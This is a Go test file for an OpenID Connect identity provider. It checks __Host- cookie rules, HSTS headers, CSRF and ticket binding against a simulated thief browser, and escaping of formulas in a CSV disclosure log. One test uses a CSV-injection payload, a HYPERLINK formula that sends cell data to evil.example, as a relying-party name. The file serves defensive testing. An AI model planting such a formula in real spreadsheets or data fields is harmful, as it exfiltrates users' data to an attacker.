package app_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"golang.org/x/oauth2"

	"github.com/dinhdanh/dinhdanh/cmd/dinhdanh/app"
	"github.com/dinhdanh/dinhdanh/provider"
)

// tlsProxy plays the TLS-terminating load balancer in front of an https
// issuer: the browser asks for https://host, the provider is reached over
// plain http. It keeps every response, to check headers on each.
type tlsProxy struct {
	mu   sync.Mutex
	seen []*http.Response
}

func (p *tlsProxy) RoundTrip(req *http.Request) (*http.Response, error) {
	out := req.Clone(req.Context())
	if out.URL.Scheme == "https" {
		u := *out.URL
		u.Scheme = "http"
		out.URL = &u
	}
	resp, err := http.DefaultTransport.RoundTrip(out)
	if err == nil {
		p.mu.Lock()
		p.seen = append(p.seen, resp)
		p.mu.Unlock()
	}
	return resp, err
}

func (p *tlsProxy) responses() []*http.Response {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]*http.Response(nil), p.seen...)
}

// newHTTPSEnv is a provider whose issuer is https, behind a tlsProxy; the
// relying party's token requests go through the proxy too.
func newHTTPSEnv(t *testing.T, opts ...envOption) (*env, *tlsProxy, string) {
	proxy := &tlsProxy{}
	e := newEnv(t, append(opts, func(o *app.Options) { o.Issuer = strings.Replace(o.Issuer, "http://", "https://", 1) })...)
	e.ctx = context.WithValue(e.ctx, oauth2.HTTPClient, &http.Client{Transport: proxy})
	return e, proxy, strings.Replace(e.issuer, "http://", "https://", 1)
}

func (p *tlsProxy) browser(t *testing.T) *browser {
	b := newBrowser(t)
	b.client.Transport = p
	return b
}

func cookieNamed(resps []*http.Response, name string) *http.Cookie {
	var last *http.Cookie
	for _, r := range resps {
		for _, c := range r.Cookies() {
			if c.Name == name {
				last = c
			}
		}
	}
	return last
}

// With an https issuer every cookie is __Host- (RFC 6265bis §4.1.3.2:
// Secure, Path=/, no Domain) and every response carries
// Strict-Transport-Security (RFC 6797); the whole level-2 flow works with
// them, the one-time-code ticket stays bound to the CSRF cookie, and the
// CSRF cookie is renewed at login so a token from before is refused.
func TestHTTPSIssuerCookiesAndHSTS(t *testing.T) {
	e, proxy, base := newHTTPSEnv(t)
	b := proxy.browser(t)
	u, ar := e.authURL(oauth2.SetAuthURLParam("acr_values", "urn:vn:eid:loa:2"))
	if !strings.HasPrefix(u, "https://") {
		t.Fatalf("authorization endpoint is not https: %s", u)
	}
	b.get(u)
	preLoginToken := hiddenValue(b.body, "csrf_token")
	preLoginCSRF := cookieNamed(proxy.responses(), "__Host-dd_csrf")
	if preLoginToken == "" || preLoginCSRF == nil {
		t.Fatalf("login page without a __Host- CSRF cookie: %d\n%s", b.last.StatusCode, b.body)
	}
	b.submit(base, "/login", url.Values{"id_number": {testPIN}, "password": {testPassword}})
	b.submit(base, "/password", url.Values{"new_password": {newPassword}, "confirm_password": {newPassword}})
	if !strings.Contains(b.body, `name="otp"`) {
		t.Fatalf("no code page:\n%s", b.body)
	}

	// The ticket is bound to this browser's CSRF cookie: another browser
	// holding even this browser's interaction cookie cannot finish it.
	thief := proxy.browser(t)
	thief.get(base + "/login")
	hostURL, _ := url.Parse(base)
	for _, c := range b.client.Jar.Cookies(hostURL) {
		if c.Name == "__Host-dd_browser" {
			thief.client.Jar.SetCookies(hostURL, []*http.Cookie{c})
		}
	}
	code := e.lastCode()
	thief.submit(base, "/otp", url.Values{"otp": {code}, "action": {"verify"}, "ticket": {hiddenValue(b.body, "ticket")},
		"interaction": {hiddenValue(b.body, "interaction")}})
	if thief.last.StatusCode != http.StatusBadRequest || strings.Contains(thief.body, `value="allow"`) {
		t.Fatalf("a ticket was accepted with another CSRF cookie: %d", thief.last.StatusCode)
	}

	b.submit(base, "/otp", url.Values{"otp": {code}, "action": {"verify"}})
	b.submit(base, "/consent", url.Values{"decision": {"allow"}})
	tok, err := e.exchange(b.callback().Get("code"), ar)
	if err != nil || tok.AccessToken == "" {
		t.Fatalf("code exchange through the https issuer: %v", err)
	}

	// Renewed at login: a new cookie value, and the old token is refused.
	afterCSRF := cookieNamed(proxy.responses(), "__Host-dd_csrf")
	if afterCSRF.Value == preLoginCSRF.Value {
		t.Error("the CSRF cookie was not renewed at login")
	}
	b.submit(base, "/account/sessions/end", url.Values{"session_id": {"x"}, "csrf_token": {preLoginToken}})
	if b.last.StatusCode != http.StatusForbidden {
		t.Errorf("a CSRF token from before login was accepted: %d", b.last.StatusCode)
	}

	// Protocol endpoints, errors and unknown paths too.
	plain := &http.Client{Transport: proxy}
	for _, p := range []string{"/.well-known/openid-configuration", "/jwks.json", "/healthz", "/no-such-page", "/oauth2/auth?client_id=nobody"} {
		resp, err := plain.Get(base + p)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
	}
	resp, err := plain.PostForm(base+"/oauth2/token", url.Values{"grant_type": {"authorization_code"}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()

	names := map[string]bool{}
	for _, r := range proxy.responses() {
		if got := r.Header.Get("Strict-Transport-Security"); !strings.HasPrefix(got, "max-age=31536000") {
			t.Errorf("%s %s: Strict-Transport-Security %q", r.Request.Method, r.Request.URL.Path, got)
		}
		for _, raw := range r.Header.Values("Set-Cookie") {
			c, err := http.ParseSetCookie(raw)
			if err != nil {
				t.Fatalf("Set-Cookie %q: %v", raw, err)
			}
			names[c.Name] = true
			if !strings.HasPrefix(c.Name, "__Host-") || !c.Secure || c.Path != "/" || c.Domain != "" ||
				strings.Contains(strings.ToLower(raw), "domain=") || !c.HttpOnly || c.SameSite != http.SameSiteLaxMode {
				t.Errorf("%s: cookie %q breaks the __Host- rules: %s", r.Request.URL.Path, c.Name, raw)
			}
		}
	}
	for _, want := range []string{"__Host-dd_session", "__Host-dd_browser", "__Host-dd_csrf"} {
		if !names[want] {
			t.Errorf("cookie %s never set (saw %v)", want, names)
		}
	}
}

// An http issuer (development) keeps the plain cookie names and sends no
// Strict-Transport-Security.
func TestHTTPIssuerKeepsPlainCookiesWithoutHSTS(t *testing.T) {
	e := newEnv(t)
	b := newBrowser(t)
	u, _ := e.authURL()
	b.get(u)
	if b.last.Header.Get("Strict-Transport-Security") != "" {
		t.Error("HSTS over http")
	}
	hostURL, _ := url.Parse(e.issuer)
	got := map[string]bool{}
	for _, c := range b.client.Jar.Cookies(hostURL) {
		got[c.Name] = true
	}
	if !got["dd_csrf"] || !got["dd_browser"] {
		t.Errorf("cookies over http: %v", got)
	}
}

// The disclosure log's CSV never hands a spreadsheet a formula: a relying
// party named "=HYPERLINK(…)" is written with a leading quote (OWASP CSV
// Injection).
func TestDisclosureCSVNeutralisesFormulas(t *testing.T) {
	e := newEnv(t)
	name := `=HYPERLINK("http://evil.example/?"&A1,"Xem")`
	id, secret := e.registerClient(provider.ClientSpec{ID: "formula-rp", Name: name, RedirectURIs: []string{rpCallback},
		Scopes: []string{"openid", "profile"}})
	e.useClient(id, secret, "openid", "profile")
	b, tok, _ := e.fullLogin()
	if _, err := e.provider.UserInfo(e.ctx, oauth2.StaticTokenSource(tok)); err != nil {
		t.Fatal(err)
	}
	b.get(e.issuer + "/account/disclosures.csv")
	rows, err := csv.NewReader(strings.NewReader(b.body)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("CSV (%v):\n%s", err, b.body)
	}
	if got := rows[1][2]; got != "'"+name {
		t.Errorf("client_name cell %q, want the name behind a quote", got)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
		}
	}
}
